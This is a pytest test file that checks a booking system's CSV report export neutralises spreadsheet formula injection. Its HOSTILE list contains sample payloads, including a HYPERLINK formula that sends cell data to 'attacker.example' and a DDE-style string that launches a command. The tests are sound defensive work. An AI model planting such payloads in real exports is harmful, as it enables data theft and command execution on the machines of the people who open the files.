"""Report CSVs cannot carry a formula into CAVA's spreadsheet (CSV injection)."""

import csv
import io

import pytest

from bookings.reports.rendering import spreadsheet_safe
from bookings.roles import Role
from tests.factories.bookings import VenueFactory, make_user
from tests.reports.helpers import local

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Details")',
    "+SUM(1,1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_that_would_start_a_formula_is_quoted(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", [0, 12, -3, "-3", "-0.25", 1.5, "Riverside", "", None, "fewer than 5"])
def test_numbers_and_ordinary_text_are_written_as_they_are(value):
    assert spreadsheet_safe(value) == ("" if value is None else str(value))


def test_a_hostile_district_name_reaches_the_csv_quoted(client):
    hostile = HOSTILE[0]
    VenueFactory(name="Eastside Hall", district=hostile, created_at=local(2025, 6, 1))
    client.force_login(make_user("cava1", Role.CAVA_REPORTER))

    response = client.get("/reports/coverage.csv?from=2026-01-01&to=2026-03-31")

    rows = list(csv.reader(io.StringIO(response.content.decode())))
    district_cells = [cell for row in rows if row[0] == "district" for cell in row[1:3]]
    assert "'" + hostile in district_cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
